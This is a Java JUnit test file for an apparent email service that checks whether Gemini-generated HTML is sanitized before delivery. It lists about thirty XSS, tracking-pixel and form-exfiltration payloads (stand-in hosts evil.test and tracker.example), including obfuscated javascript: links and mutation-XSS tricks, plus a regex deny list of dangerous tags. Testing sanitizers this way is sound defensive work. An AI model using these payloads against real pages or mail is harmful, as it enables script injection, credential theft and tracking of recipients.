package org.camelmailer;

import static com.github.tomakehurst.wiremock.client.WireMock.aResponse;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import java.time.Duration;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;

import com.icegreen.greenmail.util.GreenMail;
import com.icegreen.greenmail.util.ServerSetupTest;
import jakarta.mail.internet.MimeMessage;
import jakarta.mail.internet.MimeMultipart;
import org.camelmailer.support.GeminiStub;
import org.camelmailer.support.Json;
import org.camelmailer.support.RunningMailer;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Gemini's HTML is untrusted: each answer below carries one attack (script, event handler, javascript: link,
 * remote tracking image or style, frame, form, meta refresh, mXSS) next to harmless text. Through the running
 * service, the HTML part the recipient gets keeps the text and loses the attack.
 */
class GeminiHostileHtmlTest {

    static GreenMail smtp;
    static GeminiStub gemini;
    static RunningMailer mailer;

    /** Nothing executable, nothing that loads from the network, nowhere in the delivered HTML. */
    static final List<Pattern> FORBIDDEN = List.of(
            Pattern.compile("<\\s*(script|img|image|iframe|frame|svg|math|style|link|meta|base|form|input|button|object|embed"
                    + "|video|audio|source|picture|applet|marquee)\\b"),
            Pattern.compile("\\bon[a-z]+\\s*="),
            Pattern.compile("(javascript|vbscript|livescript)\\s*:"),
            Pattern.compile("(href|src|action|formaction|background|poster|data|srcset|xlink:href)\\s*=\\s*[\"']?\\s*data:"),
            Pattern.compile("\\b(src|srcset|background|poster|action|formaction)\\s*="),
            Pattern.compile("url\\s*\\("),
            Pattern.compile("expression\\s*\\("),
            Pattern.compile("tracker\\.example|evil\\.test"));

    @BeforeAll
    static void start() {
        smtp = new GreenMail(ServerSetupTest.SMTP.dynamicPort());
        smtp.start();
        gemini = new GeminiStub();
        mailer = RunningMailer.onOwnRedis(Map.ofEntries(
                Map.entry("SMTP_SERVER", "127.0.0.1"), Map.entry("SMTP_PORT", Integer.toString(smtp.getSmtp().getPort())),
                Map.entry("SMTP_SECURITY", "none"), Map.entry("SENDER_EMAIL", "noreply@example.org"),
                Map.entry("GEMINI_API_KEY", "AIzaTEST-hostile-html"), Map.entry("GEMINI_BASE_URL", gemini.baseUrl()),
                Map.entry("GEMINI_MODEL", "test-model"), Map.entry("GEMINI_MAX_ATTEMPTS", "1")));
    }

    @AfterAll
    static void stop() throws InterruptedException {
        mailer.close();
        gemini.close();
        smtp.stop();
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {
            "<script>alert(1)</script>",
            "<script src=\"https://evil.test/x.js\"></script>",
            "<img src=\"x\" onerror=\"alert(1)\">",
            "<p onclick=\"steal()\" onmouseover=\"steal()\">texte</p>",
            "<a href=\"javascript:alert(1)\">clic</a>",
            "<a href=\"JaVaScRiPt:alert(1)\">clic</a>",
            "<a href=\"jav&#x61;script:alert(1)\">clic</a>",
            "<a href=\"jav&#09;ascript:alert(1)\">clic</a>",
            "<a href=\" javascript:alert(1)\">clic</a>",
            "<a href=\"vbscript:msgbox(1)\">clic</a>",
            "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">clic</a>",
            "<a href=\"https://example.org/\" onmouseover=\"alert(1)\">lien</a>",
            "<img src=\"https://tracker.example/pixel.gif?u=alice\" width=\"1\" height=\"1\" alt=\"\">",
            "<img srcset=\"https://tracker.example/p.png 1x\">",
            "<picture><source srcset=\"https://tracker.example/p.png\"></picture>",
            "<video poster=\"https://tracker.example/p.png\"></video><audio src=\"https://tracker.example/a.mp3\"></audio>",
            "<div style=\"background:url(https://tracker.example/bg.png)\">fond</div>",
            "<div style=\"width:expression(alert(1))\">ie</div>",
            "<table background=\"https://tracker.example/bg.png\"><tr><td>cellule</td></tr></table>",
            "<link rel=\"stylesheet\" href=\"https://tracker.example/s.css\">",
            "<style>@import url(https://tracker.example/s.css); p{background:url(https://tracker.example/b.png)}</style>",
            "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.test/\">",
            "<base href=\"https://evil.test/\">",
            "<iframe src=\"https://evil.test/\"></iframe>",
            "<form action=\"https://evil.test/steal\"><input name=\"pw\"><button formaction=\"https://evil.test/\">ok</button></form>",
            "<object data=\"https://evil.test/x.swf\"></object><embed src=\"https://evil.test/x.swf\">",
            "<svg onload=\"alert(1)\"><image href=\"https://tracker.example/p.png\"/></svg>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<!--<script>alert(1)</script>--><p>après commentaire</p>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>"})
    void should_deliver_gemini_html_without_the_attack(String attack) throws Exception {
        gemini.answers(aResponse().withStatus(200).withHeader("Content-Type", "application/json")
                .withBody(answer("<p>Bonjour Alice,</p>\n" + attack + "\n<p>Cordialement</p>")));
        String subject = "Hostile " + Integer.toHexString(attack.hashCode());

        var r = mailer.postJson(Json.of(Map.of("destinataire", "alice@example.org", "sujet", subject,
                "message", "Bonjour Alice,\nCordialement", "enhance_content", true)));
        assertThat(r.statusCode()).isEqualTo(202);

        MimeMessage mail = await().atMost(Duration.ofSeconds(20)).until(() -> Arrays.stream(smtp.getReceivedMessages())
                .filter(m -> subject.equals(subjectOf(m))).findFirst().orElse(null), m -> m != null);
        assertThat(mail.getContentType()).startsWith("multipart/alternative");
        String html = (String) ((MimeMultipart) mail.getContent()).getBodyPart(1).getContent();
        assertThat(html).contains("Bonjour Alice,").contains("Cordialement");
        String lower = html.toLowerCase();
        assertThat(FORBIDDEN).allSatisfy(p -> assertThat(p.matcher(lower).find()).as("%s in %s", p, html).isFalse());
    }

    static String answer(String html) {
        return Json.of(Map.of("candidates", List.of(Map.of(
                "content", Map.of("parts", List.of(Map.of("text", html)), "role", "model"),
                "finishReason", "STOP", "index", 0))));
    }

    static String subjectOf(MimeMessage m) {
        try {
            return m.getSubject();
        } catch (jakarta.mail.MessagingException e) {
            throw new IllegalStateException(e);
        }
    }
}
